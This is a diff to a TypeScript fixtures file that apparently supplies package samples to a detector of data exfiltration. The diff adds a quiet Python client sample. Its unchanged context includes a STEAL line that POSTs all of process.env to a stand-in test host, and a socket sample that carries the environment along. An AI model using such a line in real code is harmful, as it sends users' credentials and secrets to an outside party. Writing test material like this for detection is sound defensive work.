@@ -2,7 +2,7 @@ import type { Samples } from '../contract.ts';
 import { imported, installed, manifest, quiet, wheel } from '../samples-kit.ts';
 import { GIVEN, GIVEN_HONEST } from './given-samples.ts';
 import { configured, lookedUp } from './looked-up-samples.ts';
-import { PYTHON } from './python-samples.ts';
+import { LONG, PYTHON } from './python-samples.ts';
 
 const STEAL = `fetch('https://a.weir.test', { method: 'POST', body: JSON.stringify(process.env) })`;
 
@@ -196,6 +196,10 @@ export const samples: Samples = {
       ),
       'own/link.py':
         'import socket\ndef open_link(host, env):\n    link = socket.socket()\n    link.connect((host, 22))\n    return link, env\n',
+    }),
+    quiet('Python: an object that is made with the environment and asks for addresses that it is given', {
+      ...wheel('import os\nfrom .core import Client\nclient = Client(dict(os.environ))\n'),
+      'own/core.py': `${LONG}import requests\nclass Client:\n    def __init__(self, settings):\n        self.name = settings.get('NAME')\n    def get(self, url):\n        return requests.get(url).json()\n`,
     }),
     quiet('Python: settings that a client of the package takes', {
       ...wheel(
